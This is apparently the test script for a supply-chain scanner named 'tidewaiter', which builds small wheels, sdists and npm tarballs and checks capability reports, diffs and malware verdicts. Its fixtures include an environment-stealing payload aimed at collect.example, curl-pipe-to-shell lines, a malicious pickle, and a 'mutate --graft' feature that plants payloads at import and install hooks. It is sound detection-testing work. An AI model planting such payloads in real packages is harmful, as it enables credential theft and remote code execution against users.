#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""`tidewaiter capabilities`, `diff` and `mutate --graft` as their users call them, on small packages made here."""
import argparse
import base64
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from pathlib import Path

passed = failed = 0
PAYLOAD = 'import os, urllib.request\nurllib.request.urlopen("http://collect.example/x", data=str(dict(os.environ)).encode())\n'
JS_PAYLOAD = "require('child_process').exec('curl -s http://updates.example/i.sh | sh');\n"
HOSTILE = "\x1b[31mred\u202e"


def check(ok, what, *more):
    global passed, failed
    passed, failed = passed + bool(ok), failed + (not ok)
    if not ok:
        print("FAILED", what, *[repr(m)[:1500] for m in more])


class Program:
    def __init__(self, path, tmp):
        self.path, self.tmp = path, tmp
        self.env = {"PATH": os.environ["PATH"], "HOME": str(tmp / "home")}

    def __call__(self, *args):
        r = subprocess.run([self.path, *map(str, args)], capture_output=True, timeout=300, env=self.env, cwd=self.tmp)
        return r.returncode, r.stdout.decode("utf-8", "surrogateescape"), r.stderr.decode("utf-8", "surrogateescape")

    def diff(self, *args):
        code, out, err = self("diff", "--format", "json", *args)
        return json.loads(out) if out else None, code, err


def wheel(path, version, files, requires=()):
    meta = f"Metadata-Version: 2.1\nName: reef\nVersion: {version}\n" + "".join(f"Requires-Dist: {r}\n" for r in requires)
    info = f"reef-{version}.dist-info"
    files = {**files, f"{info}/METADATA": meta, f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join(f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(c.encode()).digest()).rstrip(b'=').decode()},{len(c.encode())}\n" for n, c in files.items())
    files[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    with zipfile.ZipFile(path, "w") as z:
        for name, content in files.items():
            z.writestr(name, content)
    return path


def tarball(path, root, files):
    with tarfile.open(path, "w:gz") as t:
        for name, content in files.items():
            data = content.encode()
            info = tarfile.TarInfo(f"{root}/{name}")
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return path


def kinds(d):
    return {(i["what"], i["id"]) for i in d["items"] if i["change"] == "gained"}


def test_capabilities(tw, tmp):
    w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "import os\nX = os.environ.get('HOME')\ndef go():\n    os.system('ls')\n"}, ["requests>=2"])
    code, out, _ = tw("capabilities", w)
    check(code == 0 and "reef 1.0" in out and "when it is called" in out and "exec.shell" in out, "tree", code, out)
    code, out, _ = tw("capabilities", "--format", "json", w)
    d = json.loads(out)
    check(d["schema"] == "tidewaiter.capabilities/1" and d["name"] == "reef", "json", out)
    check([x["name"] for x in d["dependencies"]] == ["requests"], "dependencies", d["dependencies"])
    use = [u for u in d["capabilities"] if u["id"] == "exec.shell"]
    check(use and use[0]["trigger"] == "call" and use[0]["member"] == "reef/__init__.py" and use[0]["line"] == 4, "a use and its place", use)
    check(len(d["files"]) == 4, "files", d["files"])
    quiet = wheel(tmp / "reef-2.0-py3-none-any.whl", "2.0", {"reef/__init__.py": "def add(a, b):\n    return a + b\n"})
    code, out, _ = tw("capabilities", quiet)
    check(code == 0 and "nothing but compute" in out, "nothing to say", out)
    code, out, err = tw("capabilities", tmp / "none.whl")
    check(code == 2 and not out and "none.whl" in err, "a file that is not there", code, out, err)
    named = wheel(tmp / "reef-3.0-py3-none-any.whl", "3.0", {"reef/demo/__init__.py": "import os\nos.system('ls')\n", "reef/__init__.py": ""})
    out = json.loads(tw("capabilities", "--format", "json", named)[1])
    check({u["trigger"] for u in out["capabilities"] if u["id"] == "exec.shell"} == {"dead"}, "a demo within a package", out["capabilities"])
    check(tw("capabilities")[0] == 2 and tw("capabilities", "--format", "x", w)[0] == 2, "bad arguments")
    odd = wheel(tmp / "odd-1.0-py3-none-any.whl", "1.0", {f"reef/{HOSTILE}.py": f"import os\nos.system('{HOSTILE}')\n"})
    code, out, _ = tw("capabilities", "--all", odd)
    check(code == 0 and "\x1b" not in out and "\u202e" not in out and "\\x1b" in out, "hostile names stay harmless", out)


def test_diff(tw, tmp):
    old = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "from .a import go\n", "reef/a.py": "import os\ndef go():\n    os.system('ls -l')\n"})
    same, code, _ = tw.diff(old, old)
    check(code == 0 and same["level"] == "none" and not same["items"], "against itself", same)
    moved = wheel(tmp / "reef-1.1-py3-none-any.whl", "1.1", {"reef/__init__.py": "from .inner.b import go\n", "reef/inner/__init__.py": "", "reef/inner/b.py": "import os\n\n\ndef go():\n    os.system('ls -l')\n"})
    d, _, _ = tw.diff(old, moved)
    check(d["level"] == "none" and not {k for k in kinds(d) if k[0] in ("capability", "use")}, "moved code is not new", d["items"])
    new = wheel(tmp / "reef-1.2-py3-none-any.whl", "1.2", {"reef/__init__.py": "from .a import go\n" + PAYLOAD, "reef/a.py": "import os\ndef go():\n    os.system('ls -l')\n"}, ["plain-crypto>=1"])
    d, code, _ = tw.diff(old, new)
    check(code == 0 and d["level"] == "high" and d["headline"], "an injection at import", d)
    first = d["items"][0]
    check(first["member"] == "reef/__init__.py" and first["line"] == 3 and "urlopen" in first["snippet"], "the first item names the line", first)
    check({("capability", "net.http"), ("host", "collect.example"), ("dependency", "plain-crypto")} <= kinds(d), "what is new", kinds(d))
    check([i["risk"] for i in d["items"] if i["change"] == "gained"] == sorted((i["risk"] for i in d["items"] if i["change"] == "gained"), reverse=True), "by risk")
    back, _, _ = tw.diff(new, old)
    check(back["level"] == "none" and ("lost", "net.http") in {(i["change"], i["id"]) for i in back["items"]}, "what was lost alarms nobody", back["items"])
    check(tw("diff", "--fail-on", "high", old, new)[0] == 1 and tw("diff", "--fail-on", "high", old, moved)[0] == 0, "--fail-on")
    code, out, _ = tw("diff", old, new)
    check(code == 0 and "reef 1.0" in out and "high" in out and "reef/__init__.py:3" in out, "text", out)
    check(tw("diff", old)[0] == 2 and tw("diff", old, tmp / "none")[0] == 2, "bad arguments")


def test_graft(tw, tmp):
    good = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "X = 1\n"})
    sdist = tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", {"PKG-INFO": "Metadata-Version: 2.1\nName: reef\nVersion: 1.0\n", "setup.py": "from setuptools import setup\nsetup()\n", "reef/__init__.py": "X = 1\n"})
    npm = tarball(tmp / "reef-1.0.0.tgz", "package", {"package.json": '{"name": "reef", "version": "1.0.0", "main": "index.js", "scripts": {"test": "true"}}', "index.js": "exports.x = 1;\n"})
    modules = tarball(tmp / "reef-esm-1.0.0.tgz", "package", {"package.json": '{"name": "reef-esm", "version": "1.0.0", "type": "module", "main": "index.js"}', "index.js": "import fs from 'node:fs';\nexport const x = fs;\n"})
    (tmp / "p.py").write_text(PAYLOAD)
    (tmp / "p.js").write_text(JS_PAYLOAD)
    cases = [(good, "p.py", at) for at in ("import", "pth", "data", "split")] + [(sdist, "p.py", at) for at in ("import", "install", "data", "split")]
    cases += [(modules, "p.js", at) for at in ("import", "install", "data", "split")]
    cases += [(npm, "p.js", at) for at in ("import", "install", "data", "split")]
    for package, payload, at in cases:
        out = tmp / ("bad-" + package.name)
        code, said, err = tw("mutate", "--graft", payload, "--at", at, "--output", out, "--force", package)
        check(code == 0 and "now runs it" in said, f"{package.name} at {at}", code, err)
        d, _, _ = tw.diff(package, out)
        check(d and d["level"] == "high", f"{package.name} at {at} is seen", d and [(i["risk"], i["id"], i["trigger"]) for i in d["items"][:4]])
    tw("mutate", "--graft", "p.py", "--output", tmp / "r.whl", good)
    with zipfile.ZipFile(tmp / "r.whl") as z:
        rows = dict(line.split(",", 2)[:2] for line in z.read("reef-1.0.dist-info/RECORD").decode().splitlines())
        digest = base64.urlsafe_b64encode(hashlib.sha256(z.read("reef/__init__.py")).digest()).rstrip(b"=").decode()
    check(z.testzip() is None if z.fp else True, "the archive is whole")
    check(rows["reef/__init__.py"] == "sha256=" + digest, "RECORD is brought up to date", rows)
    check(tw("mutate", "--graft", "p.py", "--output", tmp / "r.whl", good)[0] == 2, "nothing is replaced without --force")
    check(tw("mutate", "--graft", "p.py", "--at", "install", "--output", tmp / "s.whl", good)[0] == 2, "a wheel has no install time")
    with tarfile.open(tmp / "bad-reef-1.0.0.tgz") as t:
        check("package/index.js" in t.getnames(), "tar is readable")


def test_facts(tw, tmp):
    project = {"PKG-INFO": "Metadata-Version: 2.1\nName: reef\nVersion: 1.0\n", "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "own.backend"\nbackend-path = ["_build"]\n',
               "_build/own/backend.py": "import os\nfrom setuptools.build_meta import *\ndef build_wheel(*a, **k):\n    os.system('make')\ndef other():\n    os.remove('x')\n",
               "reef/__init__.py": "exec('import json')\n", f"reef/{HOSTILE}.py": f"print('{HOSTILE}')\n"}
    sdist = tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", project)
    d = json.loads(tw("capabilities", "--format", "json", sdist)[1])
    when = {u["id"]: u["trigger"] for u in d["capabilities"]}
    check(when.get("exec.shell") == "build" and when.get("fs.delete") == "call", "what an in-tree back end does while building", when)
    code, out, _ = tw("capabilities", sdist)
    check("(reef-1.0/_build/own/backend.py)" in out, "a file that starts is named once", out)
    code, out, err = tw("facts", sdist)
    check(code == 0 and "== reef-1.0/_build/own/backend.py (unit " in out and 'os.system("make")' in out, "facts of an artifact", out, err)
    check("layer 0 of unit" in out and "import json" in out, "facts of a layer", out)
    check("\x1b" not in out and "\u202e" not in out, "hostile names and texts stay harmless", out)
    npm = tarball(tmp / "reef-2.0.0.tgz", "package", {"package.json": '{"name": "reef", "version": "2.0.0", "exports": {"./*": "./*", ".": {"require": "./start"}}}', "LICENSE": "MIT\n", "start": JS_PAYLOAD})
    d = json.loads(tw("scan", "--format", "jsonl", npm)[1])
    check({"exec.shell"} <= {c["id"] for c in d["capabilities"] if c["trigger"] == "import"}, "a module without an extension", d["capabilities"])
    check(not d["coverage"]["gaps"], "LICENSE is no code of a star", d["coverage"])
    (tmp / "one.py").write_text("import os\n")
    code, one, _ = tw("facts", "one.py")
    check(code == 0 and one.startswith("record ") and "==" not in one, "facts of a source", one)
    check(tw("facts", "none.py")[0] == 2 and tw("facts")[0] == 2 and tw("facts", "one.py", "none.py")[0] == 2, "files that are not there")


def test_layers(tw, tmp):
    """A layer that is all of its file is no cycle; one that was not read at all is never passed over."""
    line = 'import os; os.system("curl https://a.example|sh")'
    for end in ("", "\n"):
        w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "", "zz.pth": line + end})
        d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
        check(d["verdict"] == "malicious" and not d["coverage"]["limits_hit"], f"a .pth of one line, end {end!r}", d["verdict"], d["coverage"])
    nested = "print('x')"
    for _ in range(3):
        nested = f"exec({nested!r})"
    w = wheel(tmp / "reef-1.1-py3-none-any.whl", "1.1", {"reef/__init__.py": nested + "\n"})
    whole = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
    cut = json.loads(tw("scan", "--no-cache", "--format", "jsonl", "--limit", "layer_depth=1", w)[1])
    check(whole["verdict"] in ("clear", "notable") and cut["verdict"] == "unreviewable", "an unread layer at import", whole["verdict"], cut["verdict"], cut["coverage"])


def encrypted(path, out, member):
    """The same archive with the flag of an encrypted member set."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        at = z.getinfo(member).header_offset
    data[at + 6] |= 1
    entry = data.index(b"PK\x01\x02")
    while data[entry + 46:entry + 46 + len(member)] != member.encode():
        entry = data.index(b"PK\x01\x02", entry + 1)
    data[entry + 8] |= 1
    out.write_bytes(data)
    return out


def test_unread(tw, tmp):
    """What of the new release could not be read is a difference, and what is no package differs from nothing."""
    old = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "X = 1\n"})
    locked = encrypted(old, tmp / "reef-1.1-py3-none-any.whl", "reef/__init__.py")
    large = wheel(tmp / "reef-1.2-py3-none-any.whl", "1.2", {"reef/__init__.py": "X = 1\n" * 2000})
    cut = tmp / "reef-1.3-py3-none-any.whl"
    cut.write_bytes(old.read_bytes()[:-40])
    for new, options in (locked, ()), (large, ("--limit", "source_bytes=4096")), (cut, ()):
        d, code, err = tw.diff(*options, old, new)
        first = d["items"][0]
        check(code == 0 and d["level"] == "high" and first["what"] == "unread" and "no longer be read" in first["says"], f"unread: {new.name}", d, err)
        same, _, _ = tw.diff(*options, new, new)
        check(same["level"] == "none", f"was unread before: {new.name}", same)
    check("code that runs at import can no longer be read" in tw("diff", old, locked)[1], "unread, as text")
    (tmp / "empty.whl").write_bytes(b"")
    (tmp / "noise.whl").write_bytes(bytes(range(7, 250)) * 20)
    zipfile.ZipFile(tmp / "zero.whl", "w").close()
    tarfile.open(tmp / "zero.tar.gz", "w:gz").close()
    (tmp / "bare.json").write_text("{}")
    (tmp / "head.json").write_text('{"schema": "tidewaiter.capabilities/1"}')
    for name in "empty.whl", "noise.whl", "zero.whl", "zero.tar.gz", "bare.json", "head.json":
        for pair in (old, tmp / name), (tmp / name, old):
            code, out, err = tw("diff", *pair)
            check(code == 2 and not out and name in err, f"no package: {name}", code, out, err)
        if name.endswith("json"):
            continue
        code, out, _ = tw("capabilities", tmp / name)
        check("It does nothing" not in out and "Nothing in it is code" in out, f"capabilities of {name}", out)
    (tmp / "old.json").write_text(tw("capabilities", "--format", "json", old)[1])
    check(tw.diff(tmp / "old.json", locked)[0]["level"] == "high", "a stored profile and an unread release")


def test_not_read(tw, tmp):
    """Nothing is said of the whole where a part was not read."""
    meta = {"PKG-INFO": "Metadata-Version: 2.1\nName: reef\nVersion: 1.0\n", "pyproject.toml": '[build-system]\nrequires = ["mesonpy"]\nbuild-backend = "mesonpy"\n', "reef/__init__.py": "X = 1\n"}
    for name in "meson.build", "src/reef.c", "build.rs", "CMakeLists.txt":
        code, out, _ = tw("capabilities", tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", {**meta, name: "x = 1\n"}))
        check("It does nothing" not in out and "What of it was read" in out and "reef-1.0/" + name in out, f"not read: {name}", out)
    whole = tw("capabilities", tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", meta))[1]
    check("It does nothing but compute" in whole and "not read" not in whole, "all was read", whole)
    locked = encrypted(wheel(tmp / "a.whl", "1.0", {"reef/__init__.py": "X = 1\n", "reef/b.py": "Y = 1\n"}), tmp / "reef-1.0-py3-none-any.whl", "reef/__init__.py")
    out = tw("capabilities", locked)[1]
    check("It does nothing" not in out and "reef/__init__.py" in out and "encrypted" in out, "not read: encrypted", out)
    page = tw("capabilities", "--format", "html", locked)[1]
    check("It does nothing" not in page and "encrypted" in page, "the page says it too")


def test_hooks(tw, tmp):
    """What build back ends and pytest call by its name."""
    def when(archive):
        d = json.loads(tw("capabilities", "--format", "json", archive)[1])
        return {u["trigger"] for u in d["capabilities"] if u["id"] == "exec.shell"}

    def sdist(files, backend="hatchling.build", more=""):
        project = f'[build-system]\nrequires = ["x"]\nbuild-backend = "{backend}"\n{more}'
        return tarball(tmp / "reef-1.0.tar.gz", "reef-1.0", {"PKG-INFO": "Metadata-Version: 2.1\nName: reef\nVersion: 1.0\n", "pyproject.toml": project, "reef/__init__.py": "", **files})

    hook = "import os\nclass Hook(Base):\n    def {}(self, *a):\n        os.system('make')\n"
    custom = "[tool.hatch.build.hooks.custom]\n"
    for name in "initialize", "finalize", "clean", "dependencies":
        check(when(sdist({"hb.py": hook.format(name)}, more=custom + 'path = "hb.py"\n')) == {"build"}, f"hatch: {name}")
    check(when(sdist({"hatch_build.py": hook.format("initialize")}, more=custom)) == {"build"}, "hatch: the file's name by default")
    check(when(sdist({"hatch_build.py": hook.format("update")}, more="[tool.hatch.metadata.hooks.custom]\n")) == {"build"}, "hatch: metadata")
    check(when(sdist({"hatch_build.py": hook.format("other")}, more=custom)) == {"call"}, "hatch: a method that it does not call")
    for name in "pdm_build_initialize", "pdm_build_hook_enabled", "pdm_build_update_files":
        check(when(sdist({"pdm_build.py": f"import os\ndef {name}(context):\n    os.system('make')\n"}, "pdm.backend")) == {"build"}, f"pdm: {name}")
    for value, trigger in ("'1' + str(os)", "build"), ("'1'", "import"):
        cfg = {"setup.cfg": "[metadata]\nname = reef\nversion = attr: reef.ver.V\n", "reef/ver.py": f"import os\nos.system('ls')\nV = {value}\n"}
        check(when(sdist(cfg, "setuptools.build_meta")) == {trigger}, f"attr: {value}", when(sdist(cfg, "setuptools.build_meta")))
    plugin = {"reef/__init__.py": "", "reef/plug.py": "import os\ndef pytest_configure(config):\n    os.system('ls')\n", "reef-1.0.dist-info/entry_points.txt": "[pytest11]\nreef = reef.plug\n"}
    check(when(wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", plugin)) == {"plugin"}, "a hook of pytest")


def test_pickle(tw, tmp):
    """A pickle beside the code is a program: what it calls runs where it is loaded."""
    bad, good = "c{}\nsystem\n(S'curl https://pk.example|sh'\ntR.", "ccollections\nOrderedDict\n(tR."
    loads = {"load": "m = pickle.load(open(os.path.join(os.path.dirname(__file__), 'w.pkl'), 'rb'))\n",
             "with": "with open(os.path.join(os.path.dirname(__file__), 'w.pkl'), 'rb') as f:\n    m = pickle.load(f)\n",
             "loads": "m = pickle.loads(open(os.path.join(os.path.dirname(__file__), 'w.pkl'), 'rb').read())\n"}
    for name, code in loads.items():
        for module in "os", "posix":
            w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "import os, pickle\n" + code, "reef/w.pkl": bad.format(module)})
            d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
            check(d["verdict"] == "malicious", f"a pickle beside: {name} {module}", d["verdict"], d["layers"])
    w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": "import os, pickle\n" + loads["load"], "reef/w.pkl": good})
    d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
    check(d["verdict"] in ("clear", "notable") and not d["layers"], "a pickle of data", d["verdict"], d["layers"])
    w = wheel(tmp / "reef-1.0-py3-none-any.whl", "1.0", {"reef/__init__.py": f"import pickle\nm = pickle.loads({bad.format('os').encode()!r})\n"})
    d = json.loads(tw("scan", "--no-cache", "--format", "jsonl", w)[1])
    check(d["verdict"] == "malicious" and [x["language"] for x in d["layers"]] == ["shell"], "a pickle in the code is told once", d["layers"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", required=True)
    path = os.path.abspath(ap.parse_args().tidewaiter)
    for test in (test_capabilities, test_diff, test_graft, test_facts, test_layers, test_unread, test_not_read, test_hooks, test_pickle):
        with tempfile.TemporaryDirectory() as folder:
            test(Program(path, Path(folder)), Path(folder))
    print(f"{passed} passed, {failed} failed")
    return failed != 0


if __name__ == "__main__":
    sys.exit(main())
